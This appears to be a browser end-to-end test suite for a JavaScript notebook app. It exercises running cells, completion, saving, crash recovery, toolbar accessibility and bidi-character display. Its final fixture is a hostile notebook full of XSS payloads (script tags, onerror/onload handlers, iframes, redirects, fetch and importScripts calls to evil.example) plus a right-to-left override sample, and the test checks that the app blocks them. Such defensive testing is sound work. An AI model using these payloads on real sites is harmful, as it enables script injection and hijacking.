import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import {
  chromiumPath,
  firefoxPath,
  launchChromium,
  launchFirefox,
  takeScreenshots,
} from '../tools/browser.ts'
import { useBrowserApp } from '../tools/browser-app.ts'

/* The notebook as a person uses it, in Debian's Chromium and Firefox; skipped in one that is not installed. */
describe.skipIf(chromiumPath === undefined)('the notebook in a browser', () => walk(launchChromium))
describe.skipIf(firefoxPath === undefined)('the notebook in Firefox', () => walk(launchFirefox))

function walk(launch: typeof launchChromium): void {
  const app = useBrowserApp(launch)

  const isIdle = () => app.page.getByRole('status').getByText('Ready').waitFor({ timeout: 60_000 })

  /** Writes a cell anew, as a person does who selects all of it. */
  async function type(index: number, text: string): Promise<void> {
    await app.codeCell(index).locator('pre.code').click()
    await app.codeCell(index).locator('.monaco-editor').waitFor()
    await app.page.keyboard.press('Control+A')
    await app.page.keyboard.insertText(text)
  }

  test('opens the gallery, a notebook of the library, and runs it to its table', async () => {
    await app.page.goto(await app.serve())
    await app.page.getByRole('heading', { name: 'Library' }).waitFor()
    await takeScreenshots(app.page, 'gallery')
    await app.page.getByRole('button', { name: /^Three ways to replicate/ }).click()
    await app.codeCell(0).waitFor()
    await takeScreenshots(app.page, 'notebook')
    await app.button('Run all').click()
    await app.page.getByRole('status').getByText('Running').waitFor()
    await isIdle()
    expect(await app.page.locator('.failure').count()).toBe(0)
    // What is far from the window is not drawn.
    await app.page.keyboard.press('End')
    const table = app.page.locator('table').filter({ hasText: 'leaderless' }).last()
    await table.scrollIntoViewIfNeeded()
    await table.getByText('leaderless').first().waitFor()
    await takeScreenshots(app.page, 'table')
    expect(app.complaints).toEqual([])
  })

  test('completes names across cells, and marks what depends on an edited cell', async () => {
    await app.page.goto(await app.serve())
    await app.button('New notebook').click()
    await type(0, 'const replicationFactor = 3')
    await app.page.keyboard.press('Alt+Enter')
    await app.codeCell(1).locator('.monaco-editor').waitFor()
    await app.page.keyboard.type('replicationFa')
    const suggestion = app.page.locator('.suggest-widget').getByText('replicationFactor')
    await suggestion.first().waitFor({ timeout: 30_000 })
    await takeScreenshots(app.page, 'completion')
    await app.page.keyboard.press('Tab')
    await app.page.keyboard.press('Shift+Enter')
    await app.codeCell(1).getByText('3', { exact: true }).last().waitFor()
    await type(0, 'const replicationFactor = 5')
    await app.page.keyboard.press('Escape')
    await app.codeCell(1).getByText('stale').waitFor()
    await takeScreenshots(app.page, 'stale')
    expect(app.complaints).toEqual([])
  })

  test('stops an endless loop and keeps the variables', async () => {
    await app.page.goto(await app.serve())
    await app.button('New notebook').click()
    await type(0, 'let kept = 41\nwhile (true) kept += 0')
    await app.page.keyboard.press('Control+Enter')
    await app.codeCell(0).getByText('running').waitFor()
    await app
      .codeCell(0)
      .getByText(/^\d+ s$/)
      .waitFor()
    await app.button('Stop').click()
    await app.codeCell(0).getByText('stopped; its variables are kept').waitFor()
    await app.page.keyboard.press('b')
    await type(1, 'kept + 1')
    await app.page.keyboard.press('Control+Enter')
    await app.codeCell(1).getByText('42', { exact: true }).waitFor()
    expect(app.complaints).toEqual([])
  })

  test('saves a notebook, and shows the same when it is opened again', async () => {
    await app.page.goto(await app.serve())
    await app.button('New notebook').click()
    await type(0, '1 + 1')
    await app.page.keyboard.press('Control+Enter')
    await app.codeCell(0).getByText('2', { exact: true }).waitFor()
    await app.button('Save').click()
    await app.page.getByLabel('Name').fill('sum')
    await app.page.getByRole('dialog').getByRole('button', { name: 'Save' }).click()
    await app.page.getByRole('dialog').waitFor({ state: 'detached' })
    const text = await readFile(join(app.folder, 'sum.ipynb'), 'utf8')
    expect(JSON.parse(text).cells[0]).toMatchObject({ source: ['1 + 1'], execution_count: 1 })
    await app.button('To the gallery').click()
    await app.page
      .getByRole('button', { name: /^sum\.ipynb/ })
      .first()
      .click()
    await app.codeCell(0).getByText('2', { exact: true }).waitFor()
    expect(await readFile(join(app.folder, 'sum.ipynb'), 'utf8')).toBe(text)
    expect(app.complaints).toEqual([])
  })

  test('loses nothing when the server is killed in the middle of editing', async () => {
    await writeFile(join(app.folder, 'mine.ipynb'), emptyNotebook)
    const address = await app.serve()
    await app.page.goto(address)
    await app.page.getByRole('button', { name: /^mine\.ipynb/ }).click()
    await type(0, 'const precious = 1')
    await app.page.waitForTimeout(1_500)
    await app.program.end('SIGKILL')
    await app.page.close()
    app.page = await app.context.newPage()
    await app.page.goto(await app.serve())
    await app.page.getByRole('heading', { name: 'Unsaved work' }).waitFor()
    await takeScreenshots(app.page, 'recovery')
    await app.button('Recover').click()
    await app.codeCell(0).getByText('precious').waitFor()
  })

  test('has a toolbar that is one stop of the Tab key, with arrow keys within', async () => {
    await app.page.goto(await app.serve())
    await app.button('New notebook').click()
    await app.codeCell(0).waitFor()
    const toolbar = app.page.getByRole('toolbar', { name: 'Notebook' })
    const focused = toolbar.locator(':focus')
    await app.button('To the gallery').focus()
    await app.page.keyboard.press('ArrowRight')
    expect(await focused.getAttribute('aria-label')).toBe('Save')
    // What is disabled is passed over.
    await app.page.keyboard.press('ArrowRight')
    await app.page.keyboard.press('ArrowRight')
    expect(await focused.getAttribute('aria-label')).toBe('Run all')
    await app.page.keyboard.press('End')
    expect(await focused.getAttribute('aria-label')).toBe('Command palette')
    await app.page.keyboard.press('ArrowRight')
    expect(await focused.getAttribute('aria-label')).toBe('To the gallery')
    await app.page.keyboard.press('Tab')
    expect(await focused.count()).toBe(0)
    await app.page.keyboard.press('Shift+Tab')
    expect(await focused.getAttribute('aria-label')).toBe('To the gallery')
    expect(app.complaints).toEqual([])
  })

  test('shows signs that turn the direction of code, in the editor and at rest', async () => {
    const source = 'const open = false \u202E// 1 = eurt ;eurt = nepo'
    await writeFile(join(app.folder, 'turned.ipynb'), notebookOf([code('aaaaaaaa', source)]))
    await app.page.goto(`${await app.serve()}&open=file%3Aturned.ipynb`)
    await app.codeCell(0).locator('pre.code').getByText('[U+202E]').waitFor()
    const text = await app.codeCell(0).locator('pre.code').textContent()
    expect(text).not.toContain('\u202E')
    await takeScreenshots(app.page, 'turned')
    await app.codeCell(0).locator('pre.code').click()
    await app.codeCell(0).locator('.monaco-editor').getByText('[U+202E]').first().waitFor()
    expect(app.complaints).toEqual([])
  })

  test('a hostile notebook changes nothing and reaches nothing', async () => {
    await writeFile(join(app.folder, 'hostile.ipynb'), hostileNotebook)
    const address = await app.serve()
    await app.page.goto(address)
    await app.page.getByRole('button', { name: /^hostile\.ipynb/ }).click()
    await app.codeCell(0).waitFor()
    for (const index of [0, 1, 2]) {
      await app.codeCell(index).locator('pre.code').click()
      await app.page.keyboard.press('Control+Enter')
      await app.codeCell(index).getByText('failed').waitFor()
    }
    await app.page.waitForTimeout(1_000)
    expect(await app.page.evaluate('window.attacked')).toBeUndefined()
    expect(app.reached).toEqual([])
    // Else nothing would have been seen.
    await app.page
      .context()
      .newPage()
      .then((page) => page.goto('https://evil.example/seen'))
      .catch(() => undefined)
    expect(app.reached).toEqual(['https://evil.example/seen'])
    expect(new URL(app.page.url()).origin).toBe(new URL(address).origin)
    expect(await app.page.locator('.failure').allInnerTexts()).toHaveLength(3)
    await takeScreenshots(app.page, 'hostile')
  })
}

const notebookOf = (cells: object[]) =>
  JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5 })

const code = (id: string, source: string, outputs: object[] = []) => ({
  cell_type: 'code',
  id,
  metadata: {},
  source,
  outputs,
  execution_count: null,
})

const emptyNotebook = notebookOf([code('aaaaaaaa', '')])

const attack =
  'try { window.attacked = top.attacked = parent.attacked = 1 } catch {} fetch("https://evil.example/")'
const shown = (data: object) => [{ output_type: 'display_data', metadata: {}, data }]

const hostileNotebook = notebookOf([
  {
    cell_type: 'markdown',
    id: 'text',
    metadata: {},
    source: `# Hostile\n<script>${attack}</script><img src="https://evil.example/x" onerror='${attack}'>\n[x](javascript:attacked=1)\n<iframe src="https://evil.example/frame"></iframe><svg onload='${attack}'></svg>`,
  },
  code('fetches', 'await fetch("https://evil.example/cell")'),
  code('leaves', 'top.location = "https://evil.example/top"'),
  code('loads', 'importScripts("https://evil.example/script.js")'),
  {
    ...code(
      'shows',
      '',
      shown({
        'text/html': `<script>${attack}</script><img src=x onerror='${attack}'><meta http-equiv="refresh" content="0;url=https://evil.example/meta"><a href="https://evil.example/link" target="_top">x</a>`,
      }),
    ),
  },
  code(
    'draws',
    '',
    shown({
      'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload='${attack}'><script>${attack}</script><image href="https://evil.example/image"/></svg>`,
    }),
  ),
])
